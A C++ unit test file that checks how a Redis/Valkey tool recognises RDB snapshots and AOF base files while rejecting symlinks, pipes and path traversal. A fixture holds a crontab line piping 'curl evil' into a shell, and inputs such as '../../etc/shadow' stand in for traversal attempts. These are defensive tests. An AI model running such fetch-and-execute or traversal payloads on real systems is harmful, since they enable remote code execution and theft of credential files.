// SPDX-License-Identifier: MIT
// Copyright the forkmend authors
#include "engine/rdb_file.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <string>

#include "support/temp_dir.hpp"

namespace forkmend::engine {
namespace {

using testing::HostTree;

/// As redis-server 7.0.15 writes an empty data set, but for the auxiliary fields.
std::string rdb(const std::string& body = "") {
  return "REDIS0010" + body + std::string("\xFF\x01\x02\x03\x04\x05\x06\x07\x08", 9);
}

FactSet facts_of(std::int64_t pid) {
  FactSet facts;
  facts.set("instance.pid", pid, "", "test");
  facts.set("redis.config.dbfilename", std::string("dump.rdb"), "", "test");
  facts.set("redis.config.appendfilename", std::string("appendonly.aof"), "", "test");
  facts.set("redis.config.appenddirname", std::string("appendonlydir"), "", "test");
  return facts;
}

TEST(RdbFile, SeesMagicAndEndOfAWholeFile) {
  const HostTree tree({{"/data/dump.rdb", rdb()}});
  const auto look = look_at_rdb(tree.root(), "/data/dump.rdb");
  ASSERT_TRUE(look);
  EXPECT_EQ(look->magic, "REDIS0010");
  EXPECT_TRUE(look->has_end);
  EXPECT_EQ(look->size, kSmallestRdb);
}

TEST(RdbFile, KnowsTheMagicOfValkey) {
  const HostTree tree({{"/data/dump.rdb", "VALKEY080" + rdb().substr(9)}});
  EXPECT_EQ(look_at_rdb(tree.root(), "/data/dump.rdb")->magic, "VALKEY080");
}

TEST(RdbFile, SeesThatAFileWasCutOff) {
  const std::string whole = rdb(std::string(200, 'x'));
  const HostTree tree({{"/data/dump.rdb", whole.substr(0, whole.size() - 1)}});
  EXPECT_FALSE(look_at_rdb(tree.root(), "/data/dump.rdb")->has_end);
}

TEST(RdbFile, TakesNothingElseForASnapshot) {
  const HostTree tree({{"/data/crontab", "* * * * * root curl evil | sh\n"},
                       {"/data/short", "REDIS0010"},
                       {"/data/odd", "REDIS00x0" + rdb().substr(9)}});
  EXPECT_EQ(look_at_rdb(tree.root(), "/data/crontab")->magic, "");
  EXPECT_EQ(look_at_rdb(tree.root(), "/data/short")->magic, "");
  EXPECT_EQ(look_at_rdb(tree.root(), "/data/odd")->magic, "");
}

TEST(RdbFile, FollowsNoLinkAndWaitsOnNoPipe) {
  const HostTree tree({{"/data/real", rdb()}, {"/data/link", "-> real"}});
  EXPECT_FALSE(look_at_rdb(tree.root(), "/data/link"));
  ASSERT_EQ(mkfifo((tree.path() / "data/pipe").c_str(), 0600), 0);
  const auto pipe = look_at_rdb(tree.root(), "/data/pipe");
  ASSERT_FALSE(pipe);
  EXPECT_EQ(pipe.error().code, Errc::invalid);
}

TEST(RdbFile, FindsTheSnapshotInTheWorkingDirectoryOfTheServer) {
  const HostTree tree({{"/proc/812/cwd/dump.rdb", rdb()}});
  const auto file = snapshot_file(tree.root(), facts_of(812));
  ASSERT_TRUE(file);
  EXPECT_EQ(file->path, "/proc/812/cwd/dump.rdb");
  EXPECT_EQ(file->size, kSmallestRdb);
  EXPECT_EQ(snapshot_file(tree.root(), facts_of(813)).error().code, Errc::not_found);
}

TEST(RdbFile, RefusesAFileNameThatIsAPath) {
  const HostTree tree({{"/proc/812/cwd/dump.rdb", rdb()}});
  for (const char* name : {"../dump.rdb", "..", "", "/etc/shadow"}) {
    FactSet facts = facts_of(812);
    facts.set("redis.config.dbfilename", std::string(name), "", "test");
    EXPECT_EQ(snapshot_file(tree.root(), facts).error().code, Errc::invalid) << name;
  }
}

TEST(RdbFile, ReadsTheBaseFileFromAManifest) {
  EXPECT_EQ(base_of_manifest("file appendonly.aof.2.base.rdb seq 2 type b\n"
                             "file appendonly.aof.3.incr.aof seq 3 type i\n"),
            "appendonly.aof.2.base.rdb");
  EXPECT_EQ(base_of_manifest("file appendonly.aof.1.incr.aof seq 1 type i\n"), std::nullopt);
  EXPECT_EQ(base_of_manifest(""), std::nullopt);
}

TEST(RdbFile, FindsTheBaseFileOfAnAof) {
  const HostTree tree({{"/proc/812/cwd/appendonlydir/appendonly.aof.manifest",
                        "file appendonly.aof.2.base.rdb seq 2 type b\n"},
                       {"/proc/812/cwd/appendonlydir/appendonly.aof.2.base.rdb", rdb()}});
  const auto file = aof_base_file(tree.root(), facts_of(812));
  ASSERT_TRUE(file);
  EXPECT_EQ(file->name, "appendonly.aof.2.base.rdb");
}

TEST(RdbFile, TakesTheAofItselfBeforeVersionSeven) {
  const std::string select = "*2\r\n$6\r\nSELECT\r\n$1\r\n0\r\n";
  const HostTree tree({{"/proc/812/cwd/appendonly.aof", select}});
  FactSet facts = facts_of(812);
  facts.set_missing("redis.config.appenddirname", FactState::not_applicable, "CONFIG GET",
                    "this server has no such parameter");
  EXPECT_EQ(aof_base_file(tree.root(), facts)->name, "appendonly.aof");
}

TEST(RdbFile, RefusesAManifestThatNamesAPath) {
  const std::string manifest = "file ../../etc/shadow seq 2 type b\n";
  const HostTree tree({{"/proc/812/cwd/appendonlydir/appendonly.aof.manifest", manifest}});
  EXPECT_EQ(aof_base_file(tree.root(), facts_of(812)).error().code, Errc::invalid);
}

}  // namespace
}  // namespace forkmend::engine
